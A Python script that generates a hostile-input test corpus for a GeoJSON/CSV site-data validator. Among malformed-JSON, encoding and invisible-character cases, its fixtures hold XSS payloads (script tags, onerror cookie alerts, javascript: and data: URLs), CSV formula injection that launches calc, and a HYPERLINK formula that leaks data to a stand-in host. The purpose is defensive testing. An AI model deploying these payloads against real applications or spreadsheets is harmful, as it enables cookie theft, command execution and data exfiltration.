#!/usr/bin/env python3
"""Write the hostile-input corpus under ``tests/data/hostile/`` (deterministic, stdlib only).

    python3 tools/make_hostile_corpus.py [--out DIR]

Every case is one file plus an entry in ``EXPECTED.json``::

    "name.geojson": {"exit": 1, "fragments": [...], "absent": [...], "layer": "regions"}

``exit`` is the code of ``python -m siting validate --layer LAYER FILE`` (``candidate_sites``, the
strict site schema, unless ``layer`` is given), ``fragments`` must all appear in its output and ``absent``
must not (hostile payloads may only be echoed clipped, never whole). Files under ``valid/``
must load (exit 0) and keep the text listed in ``columns`` exactly, feature by feature.

The corpus complements ``tests/data/bad/`` (one broken file per rule) with files built by
someone trying to break the loader: malformed or exotic encodings, numbers JSON parsers
disagree on, injection payloads (``tools/hostile_payloads.toml``), invisible characters, and sizes
meant to hurt. Same script and payloads, same bytes: ``tests/test_hostile_inputs.py`` regenerates
it and compares.

Text policy (see ``siting.text.UNSAFE_CHARS``): C0/C1 control characters (tab and newline
included), bidi embeddings/overrides/isolates (U+202A-U+202E, U+2066-U+2069), U+200B,
U+2028/U+2029, the other invisible format controls (U+2060-U+2064, U+206A-U+206F,
U+FFF9-U+FFFB), U+FEFF and unpaired surrogates are rejected in every text field. ZWJ/ZWNJ
(emoji sequences, Persian) and the LRM/RLM marks are legal, as is any HTML, Markdown or
spreadsheet formula: data is kept verbatim and escaped where it is displayed or exported.
"""

from __future__ import annotations

import argparse
import codecs
import json
import tomllib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "data" / "hostile"
DROP = object()  # property value meaning "leave the key out"
PAYLOADS = tomllib.loads(Path(__file__).with_name("hostile_payloads.toml").read_text(encoding="utf-8"))

CASES: dict[str, bytes] = {}
EXPECTED: dict[str, dict] = {}


def case(name: str, content: bytes | str, fragments: list[str], *, exit: int = 1,
         absent: list[str] | None = None, layer: str | None = None, columns: dict | None = None) -> None:
    assert name not in CASES, name
    CASES[name] = content.encode("utf-8") if isinstance(content, str) else content
    entry: dict = {"exit": exit, "fragments": fragments}
    if absent:
        entry["absent"] = absent
    if layer:
        entry["layer"] = layer
    if columns:
        entry["columns"] = columns
    EXPECTED[name] = entry


def site(i: int = 0, lon: float = 2.35, lat: float = 48.86, geometry: object = DROP, **props: object) -> dict:
    """A valid candidate-site feature; keyword arguments override (or DROP) its properties."""
    p: dict = {
        "site_id": f"hostile-{i}",
        "name": f"Site {i}",
        "region": "Île-de-France",
        "evidence": "project",
        "evidence_note": "Hostile-input corpus fixture.",
        "location_precision_km": 5,
        "sources": ["https://example.org/hostile"],
    }
    p.update(props)
    p = {k: v for k, v in p.items() if v is not DROP}
    geom = {"type": "Point", "coordinates": [lon, lat]} if geometry is DROP else geometry
    return {"type": "Feature", "geometry": geom, "properties": p}


def fc(*features: dict, **members: object) -> dict:
    return {"type": "FeatureCollection", **members, "features": list(features)}


def dump(obj: object, *, ascii_only: bool = False, compact: bool = False) -> bytes:
    """JSON bytes; NaN/Infinity floats come out as the bare tokens Python writes."""
    separators = (",", ":") if compact else None
    indent = None if compact else 1
    text = json.dumps(obj, ensure_ascii=ascii_only, indent=indent, separators=separators)
    return (text + "\n").encode("utf-8")


def region(coords: object, kind: str = "Polygon") -> dict:
    props = {"region_code": "53", "region": "Bretagne", "official_zone_count": 0, "source": "hostile corpus"}
    return fc({"type": "Feature", "geometry": {"type": kind, "coordinates": coords}, "properties": props})


def garbage(n: int, seed: int = 12345) -> str:
    """``n`` printable ASCII characters from a fixed linear congruential sequence (no newline)."""
    alphabet = "{}[]\"':,;=+-@<>!?#$%&*()/\\|^~`abcdefXYZ0123456789 \u00e9"
    out = []
    x = seed
    for _ in range(n):
        x = (1103515245 * x + 12345) % 2**31
        out.append(alphabet[x % len(alphabet)])
    return "@" + "".join(out)


# ---------------------------------------------------------------------------------------------
# Malformed JSON and wrong shapes
# ---------------------------------------------------------------------------------------------
case("json_trailing_comma.geojson",
     '{"type": "FeatureCollection", "features": [\n  {"type": "Feature", "geometry": null, "properties": {},},\n]}\n',
     ["not valid JSON", "line 2"])
case("json_single_quotes.geojson",
     "{'type': 'FeatureCollection', 'features': []}\n",
     ["not valid JSON", "double quotes", "line 1, column 2"])
case("json_comments.geojson",
     '{\n  // exported by hand\n  "type": "FeatureCollection", /* no features yet */ "features": []\n}\n',
     ["not valid JSON", "line 2"])
_full = dump(fc(site(0, name="A site whose name is cut in the middle of its string")))
case("truncated_mid_string.geojson", _full[: _full.index(b"middle of") + 6],
     ["not valid JSON", "Unterminated string"])
case("top_level_string.geojson", '"FeatureCollection"\n', ["top level is a JSON string", "FeatureCollection"])
case("top_level_number.geojson", "4326\n", ["top level is a JSON number"])
case("top_level_null.geojson", "null\n", ["top level is a JSON null"])
case("bom_only.geojson", codecs.BOM_UTF8 + b"\n  \n", ["file is empty"])
case("features_not_array.geojson", dump({"type": "FeatureCollection", "features": {"0": site(0)}}),
     ["`features` is missing or not an array"])
case("feature_without_properties.geojson",
     dump(fc({"type": "Feature", "geometry": {"type": "Point", "coordinates": [2.35, 48.86]}})),
     ["7 problems", "feature 1", "field `site_id`", "field `sources`", "required field is missing"])
case("properties_is_array.geojson",
     dump(fc(site(0), {"type": "Feature", "geometry": None, "properties": [["site_id", "x"]]})),
     ["1 problem in 1 feature:", "feature 2: `properties` is not an object"], absent=["feature 1:", "feature 1 ("])
case("deeply_nested_top_level.geojson", "[" * 100_000 + "\n", ["nested too deeply"])
case("long_garbage_line.geojson", garbage(400_000), ["not valid JSON", "line 1, column 1"])

# ---------------------------------------------------------------------------------------------
# Geometry
# ---------------------------------------------------------------------------------------------
case("multipoint_geometry.geojson",
     dump(fc(site(0, geometry={"type": "MultiPoint", "coordinates": [[2.35, 48.86], [2.36, 48.87]]}))),
     ["feature 1", "geometry is a MultiPoint; expected Point"])
case("geometry_collection.geojson",
     dump(fc(site(0, geometry={"type": "GeometryCollection",
                               "geometries": [{"type": "Point", "coordinates": [2.35, 48.86]}]}))),
     ["geometry is a GeometryCollection; expected Point"])
case("point_3d_swapped.geojson",
     dump(fc(site(0, geometry={"type": "Point", "coordinates": [48.86, 2.35, 35.0, 7.0]}))),
     ["field `geometry`", "look swapped", "[longitude, latitude]"])
case("point_empty_coordinates.geojson",
     dump(fc(site(0, geometry={"type": "Point", "coordinates": []}))),
     ["Point coordinates must be two numbers"])
case("point_string_coordinates.geojson",
     dump(fc(site(0, geometry={"type": "Point", "coordinates": ["2.35", "48.86"]}))),
     ["Point coordinates must be two numbers"])
case("point_nan_infinity.geojson",
     dump(fc(site(0, lon=float("nan")), site(1, lat=float("inf")), site(2, lon=float("-inf")))),
     ["3 problems", "feature 1", "feature 2", "feature 3", "coordinates are NaN or Infinity"])
case("geometry_type_injection.geojson",
     dump(fc(site(0, geometry={"type": "\u202e\nforged.geojson: OK", "coordinates": [2.35, 48.86]}))),
     ["feature 1", "field `geometry`", "geometry is a"], absent=["\u202e", "\nforged.geojson"])

# ---------------------------------------------------------------------------------------------
# Numbers and booleans
# ---------------------------------------------------------------------------------------------
case("negative_infinity_values.geojson",
     dump(fc(site(0, power_mw=float("-inf"), land_price_eur_m2=float("-inf")))),
     ["field `power_mw`", "field `land_price_eur_m2`", "NaN or Infinity"])
case("negative_area_fraction.geojson", dump(fc(site(0, area_ha=-0.5))),
     ["field `area_ha`", "is -0.5 ha", "0 to 10000"])
case("power_1e308.geojson", dump(fc(site(0, power_mw=1e308))),
     ["field `power_mw`", "is 1e+308 MW", "0 to 5000"])
case("year_as_string.geojson", dump(fc(site(0, available_year="2028"))),
     ["field `available_year`", "is a string ('2028'), expected a number"])
case("year_fractional.geojson", dump(fc(site(0, available_year=2027.5))),
     ["field `available_year`", "is 2027.5, expected a whole number"])
case("bool_as_string.geojson", dump(fc(site(0, edf_site="true", fast_track="false", turnkey_site=1))),
     ["field `edf_site`", "is a string ('true')", "field `fast_track`", "field `turnkey_site`",
      "is a number (1)", "expected true, false or null"])
_big = dump(fc(site(0, power_mw="BIG-POWER"), site(1, available_year="BIG-YEAR"),
               site(2, geometry={"type": "Point", "coordinates": ["BIG-LON", 48.86]}),
               site(3, power_mw="BIG-25")))
_big = (_big.replace(b'"BIG-POWER"', b"9" * 5000).replace(b'"BIG-YEAR"', b"1" + b"0" * 400)
        .replace(b'"BIG-LON"', b"2" + b"0" * 400).replace(b'"BIG-25"', b"1" + b"0" * 24))
case("huge_integers.geojson", _big,
     ["4 problems", "feature 1", "field `power_mw`", "feature 2", "field `available_year`",
      "NaN or Infinity", "feature 3", "field `geometry`", "feature 4", "is 1e+24 MW"])

# ---------------------------------------------------------------------------------------------
# Sources
# ---------------------------------------------------------------------------------------------
case("sources_as_string.geojson", dump(fc(site(0, sources="https://example.org/a"))),
     ["field `sources`", "is a string, expected an array of text"])
case("sources_javascript_url.geojson",
     dump(fc(site(0, sources=["https://example.org/ok", "javascript:alert(1)"]))),
     ["field `sources`", "'javascript:alert(1)' is not an http(s) URL"])
_data_url = "data:text/html;base64," + "PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+" * 3
case("sources_data_url.geojson", dump(fc(site(0, sources=[_data_url]))),
     ["field `sources`", "'data:text/html;base64,", "is not an http(s) URL"], absent=[_data_url])
case("sources_without_host.geojson",
     dump(fc(site(0, sources=["https:///etc/passwd"]), site(1, sources=["//evil.example/x"]),
             site(2, sources=["HTTP ://example.org"]))),
     ["3 problems", "feature 1", "'https:///etc/passwd' is not an http(s) URL", "feature 2", "feature 3"])
case("sources_control_chars.geojson",
     dump(fc(site(0, sources=["https://example.org/a\n"]), site(1, sources=["https://example.org/\u202egpj.exe"]),
             site(2, sources=["https://example.org/\x1b[2J"]))),
     ["3 problems", "field `sources`", "item 1 contains control or bidirectional-override characters",
      "U+000A", "U+202E", "U+001B"], absent=["\u202e", "\x1b"])
_long_url = "https://example.org/?q=" + "a" * 3000
case("sources_url_too_long.geojson", dump(fc(site(0, sources=[_long_url]))),
     ["field `sources`", f"{len(_long_url)} characters long", "at most 2000"], absent=[_long_url[:300]])

# ---------------------------------------------------------------------------------------------
# Names and other text: lengths, invisible and control characters
# ---------------------------------------------------------------------------------------------
case("name_empty_and_blank.geojson",
     dump(fc(site(0, name=""), site(1, name=" \u00a0\u3000 "), site(2, name=DROP))),
     ["3 problems", "feature 1", "feature 2", "required field is empty", "feature 3",
      "required field is missing"])
case("name_5000_chars.geojson", dump(fc(site(0, name="N" * 5000))),
     ["field `name`", "is 5000 characters long; at most 200 allowed"], absent=["N" * 300])
case("name_bidi_override.geojson", dump(fc(site(0, name="Data centre \u202egnp.exe"))),
     ["field `name`", "contains control or bidirectional-override characters", "U+202E"], absent=["\u202e"])
case("name_bidi_isolate.geojson",
     dump(fc(site(0, name="Zone \u2066admin\u2069 nord"), site(1, commune="\u2067Lille\u2069"),
             site(2, developer="Acme \u202aLtd\u202c"))),
     ["3 problems", "U+2066", "U+2067", "U+202A", "field `commune`", "field `developer`"],
     absent=["\u2066", "\u2067", "\u202a"])
case("name_c0_controls.geojson",
     dump(fc(site(0, name="nul\x00byte"), site(1, name="\x1b[31mred\x1b[0m alert"), site(2, name="two\nlines"),
             site(3, evidence_note="tab\tseparated"), site(4, status="bell\x07"))),
     ["5 problems", "U+0000", "U+001B", "U+000A", "U+0009", "U+0007", "field `evidence_note`", "field `status`"],
     absent=["\x1b", "\x07"])
case("name_c1_controls.geojson",
     dump(fc(site(0, name="next\u0085line"), site(1, name="csi\u009b2J"), site(2, value_notes="del\x7f"))),
     ["3 problems", "U+0085", "U+009B", "U+007F", "field `value_notes`"], absent=["\u009b", "\u0085"])
case("text_invisible_separators.geojson",
     dump(fc(site(0, name="Para\u200bdis"), site(1, commune="Lyon\u2028Villeurbanne"),
             site(2, developer="\ufeffAcme"), site(3, department="59\u2029"))),
     ["4 problems", "U+200B", "U+2028", "U+FEFF", "U+2029"], absent=["\u200b", "\u2028", "\ufeff"])
case("lone_surrogates.geojson",
     dump(fc(site(0, name="broken \ud800 half"), site(1, site_id="id-\udfff", power_mw=-1)), ascii_only=True),
     ["3 problems", "unpaired surrogate", "U+D800", "U+DFFF", "field `power_mw`", "site_id=id-\\udfff"])
case("site_id_log_forging.geojson",
     dump(fc(site(0, site_id="x\nsite_id_log_forging.geojson: OK \u2014 forged", power_mw=-1))),
     ["2 problems", "field `site_id`", "U+000A", "field `power_mw`"], absent=["\nsite_id_log_forging.geojson: OK"])

# ---------------------------------------------------------------------------------------------
# Injection payloads (tools/hostile_payloads.toml): legal text, so each file also carries one real schema error
# ---------------------------------------------------------------------------------------------
HTML_ID = "\"><img src=x onerror=alert(document.cookie)>-hostile-site-identifier-0001"
HTML = PAYLOADS["html"]  # one payload a text field
_evidence = "official<script>alert('evidence')</script><img src=x onerror=alert('evidence')>"
case("html_payloads_every_field.geojson", dump(fc(site(0, **HTML, evidence=_evidence))),
     ["1 problem", "field `evidence`", "`official`"], absent=[_evidence, *HTML.values()])
FORMULA_ID = "=cmd|' /C calc'!A0"
FORMULAS = PAYLOADS["formulas"]
_region = "=HYPERLINK(\"https://evil.example/region?leak=0001\",\"Île-de-France\")"
case("formula_payloads.geojson", dump(fc(site(0, **FORMULAS, region=_region))),
     ["1 problem", "field `region`", "expected one of"],
     absent=[_region, FORMULAS["name"], FORMULAS["value_notes"]])

# A site_id is a slug (lower-case letters, digits, single hyphens): anything else is refused with
# a suggestion, never silently renamed.
_BAD_IDS = ["Bad ID!", "UPPER-case", "double--hyphen", "-leading", "caf\u00e9", "", HTML_ID, FORMULA_ID]
case("site_id_not_slug.geojson", dump(fc(*(site(i, site_id=v) for i, v in enumerate(_BAD_IDS)))),
     ["8 problems in 8 features", "field `site_id`",
      "'Bad ID!' must be lower case letters, digits and hyphens, e.g. 'bad-id'", "e.g. 'upper-case'",
      "e.g. 'double-hyphen'", "e.g. 'leading'", "e.g. 'cafe'", "feature 6: field `site_id`: required field is empty",
      "e.g. 'img-src-x-onerror-alert-document-cookie-hostile-site-identifier-0001'", "e.g. 'cmd-c-calc-a0'"],
     absent=[HTML_ID])

# ---------------------------------------------------------------------------------------------
# Encodings
# ---------------------------------------------------------------------------------------------
_text = dump(fc(site(0, name="Gare de l'Est – Île-de-France"))).decode("utf-8")
case("utf16_be_bom.geojson", codecs.BOM_UTF16_BE + _text.encode("utf-16-be"), ["UTF-16", "save it as UTF-8"])
case("utf16_le_no_bom.geojson", _text.encode("utf-16-le"), ["UTF-16", "save it as UTF-8"])
case("utf32_bom.geojson", codecs.BOM_UTF32_LE + _text.encode("utf-32-le"), ["UTF-32", "save it as UTF-8"])
case("latin1.geojson", _text.replace("–", "-").encode("latin-1"), ["not valid UTF-8 text", "byte"])

# ---------------------------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------------------------
_header = "site_id;name;region;evidence;evidence_note;location_precision_km;power_mw;area_ha;available_year;sources;lat;lon"
case("csv_semicolon_invalid_row.csv",
     _header + "\n"
     "csv-ok;Site OK;Bretagne;project;Valid row;5;120,5;40;2028;https://example.org/ok;48,11;-1,68\n"
     "csv-bad;Site KO;Bretagne-Nord;project;Invalid row;5;1.200,5;-3;2028,5;https://example.org/ko;48,1x;-1,68\n",
     ["5 problems in 1 row", "row 2 (site_id=csv-bad)", "field `region`", "field `power_mw`", "field `area_ha`",
      "field `available_year`", "field `geometry`"], absent=["row 1 (", "row 1:"])
case("csv_no_lat_lon.csv",
     "site_id,name,region,latitude,longitude\ncsv-a,Site A,Bretagne,48.11,-1.68\n",
     ["needs `lat` and `lon`", "missing lat, lon"])
case("csv_header_only.csv", _header + "\r\n", ["header but no rows"])
case("csv_huge_field.csv",
     "site_id;name;lat;lon\ncsv-a;" + "A" * 200_000 + ";48,11;-1,68\n",
     ["the CSV file cannot be read", "field larger than field limit"])
case("csv_control_chars.csv",
     "site_id;name;commune;region;evidence;evidence_note;location_precision_km;sources;lat;lon\n"
     "csv-a;nul\x00name;\"\x1b]0;title\x07\";Bretagne;project;note;5;https://example.org/a;48,11;-1,68\n",
     ["2 problems in 1 row", "row 1 (site_id=csv-a)", "field `name`", "U+0000", "field `commune`", "U+001B"],
     absent=["\x00", "\x1b", "\x07"])
case("csv_formula_payloads.csv",
     "site_id,name,region,evidence,evidence_note,location_precision_km,developer,sources,lat,lon\n"
     "\"=cmd|' /C calc'!A0\",\"=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\",Bretagne,"
     "\"@SUM(1+1)\",+note,5,-dev,https://example.org/a,48.11,-1.68\n",
     ["2 problems in 1 row", "field `site_id`", "e.g. 'cmd-c-calc-a0'", "field `evidence`", "'@SUM(1+1)'"])

# ---------------------------------------------------------------------------------------------
# CRS declarations
# ---------------------------------------------------------------------------------------------
case("crs_epsg3857.geojson",
     dump(fc(site(0, lon=261600.0, lat=6250500.0),
             crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}})),
     ["declares CRS", "EPSG::3857", "WGS84"])
case("crs_pseudo_mercator_name.geojson",
     dump(fc(site(0, lon=261600.0, lat=6250500.0),
             crs={"type": "name", "properties": {"name": "WGS 84 / Pseudo-Mercator"}})),
     ["declares CRS", "Pseudo-Mercator", "reproject the file to WGS84"])
case("crs_lookalike_code.geojson",
     dump(fc(site(0), crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::43260"}})),
     ["declares CRS", "EPSG::43260"])

# ---------------------------------------------------------------------------------------------
# Size: 10,000 valid features and one invalid one in the middle
# ---------------------------------------------------------------------------------------------
BULK_BAD = 7321


def _bulk(i: int) -> dict:
    lon = round(-1.5 + (i % 100) * 0.08, 4)
    lat = round(43.5 + (i // 100) * 0.06, 4)
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon, lat]},
            "properties": {"site_id": f"bulk-{i:05d}", "name": f"Bulk {i}", "region": "Occitanie",
                           "evidence": "rumour" if i == BULK_BAD else "indicative", "evidence_note": "bulk",
                           "location_precision_km": 1, "sources": ["https://example.org/b"]}}


case("ten_thousand_and_one.geojson", dump(fc(*(_bulk(i) for i in range(10_001))), compact=True),
     ["1 problem in 1 feature:", f"feature {BULK_BAD + 1} (site_id=bulk-{BULK_BAD:05d})", "field `evidence`",
      "'rumour'"])

# ---------------------------------------------------------------------------------------------
# Polygon layer (validated with --layer regions)
# ---------------------------------------------------------------------------------------------
# 600 levels: within what the JSON parser accepts, beyond what a recursive geometry reader survives.
case("regions_polygon_deep_nesting.geojson",
     dump(region("DEEP"), compact=True).replace(b'"DEEP"', b"[" * 600 + b"2.0,48.0" + b"]" * 600),
     ["feature 1", "field `geometry`", "Polygon coordinates are malformed"], layer="regions")
case("regions_polygon_nan.geojson",
     dump(region([[[-3.0, 48.0], [-2.0, 48.0], [-2.0, float("nan")], [-3.0, 48.0]]])),
     ["field `geometry`", "coordinates are NaN or Infinity"], layer="regions")
case("regions_polygon_huge_int.geojson",
     dump(region([[[-3.0, 48.0], [-2.0, 48.0], [-2.0, "HUGE"], [-3.0, 48.0]]])).replace(b'"HUGE"', b"4" * 400),
     ["field `geometry`", "coordinates are NaN or Infinity"], layer="regions")
case("regions_polygon_zero_area.geojson",
     dump(region([[[-3.0, 48.0], [-2.0, 48.0], [-3.0, 48.0], [-3.0, 48.0]]])),
     ["field `geometry`", "Polygon has no area"], layer="regions")

# ---------------------------------------------------------------------------------------------
# Valid: Unicode that must survive exactly, and payloads kept verbatim
# ---------------------------------------------------------------------------------------------
UNICODE_NAMES = [
    "Centre de données 🏭⚡ Fos-sur-Mer",
    "Équipe 👩\u200d💻 + 👨🏽\u200d🔧 — 🇫🇷🇪🇺",
    "مركز بيانات مرسيليا",
    "مرکز داده\u200cهای پاریس",
    "מרכז נתונים ליל \u200f2028\u200f",
    "数据中心 · データセンター · 데이터 센터",
    "डेटा सेंटर ल्योन",
    "Ile-de-France composée: I\u0302le",
    "𝔇𝔞𝔱𝔞 𝔠𝔢𝔫𝔱𝔯𝔢 ∑ ≤ ∞",
    "Zoë's «quote» & \"double\" \\ back\u2011slash",
]
case("valid/unicode_names.geojson",
     dump(fc(*(site(i, lon=2.0 + i * 0.1, name=n) for i, n in enumerate(UNICODE_NAMES)))),
     ["OK", f"{len(UNICODE_NAMES)} features"], exit=0, columns={"name": UNICODE_NAMES})
_csv_names = ["Site 🌍 Nord", "Pôle «Énergie» Grand-Est", "東京 → Lyon"]
case("valid/unicode_names.csv",
     codecs.BOM_UTF8 + ("site_id;name;region;evidence;evidence_note;location_precision_km;sources;lat;lon\r\n"
                        + "".join(f"csv-{i};{n};Grand Est;project;ok;5;https://example.org/{i};48,6;7,{i}\r\n"
                                  for i, n in enumerate(_csv_names))).encode("utf-8"),
     ["OK", "3 rows"], exit=0, columns={"name": _csv_names})
case("valid/payloads_kept_verbatim.geojson", dump(fc(site(0, **HTML), site(1, **FORMULAS))),
     ["OK", "2 features"], exit=0, columns={k: [HTML[k], FORMULAS[k]] for k in HTML})


def write(out: Path) -> int:
    out.mkdir(parents=True, exist_ok=True)
    (out / "valid").mkdir(exist_ok=True)
    for old in [*out.glob("*.*"), *(out / "valid").glob("*.*")]:
        if old.is_file() and old.suffix in (".geojson", ".csv", ".json"):
            old.unlink()
    for name, content in CASES.items():
        (out / name).write_bytes(content)
    (out / "EXPECTED.json").write_text(json.dumps(EXPECTED, indent=1, sort_keys=True, ensure_ascii=True) + "\n",
                                       encoding="ascii")
    return len(CASES)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=OUT, help=f"output folder (default: {OUT})")
    args = parser.parse_args()
    count = write(args.out)
    invalid = sum(1 for e in EXPECTED.values() if e["exit"] == 1)
    print(f"wrote {count} files ({invalid} invalid, {count - invalid} valid) and EXPECTED.json to {args.out}")


if __name__ == "__main__":
    main()
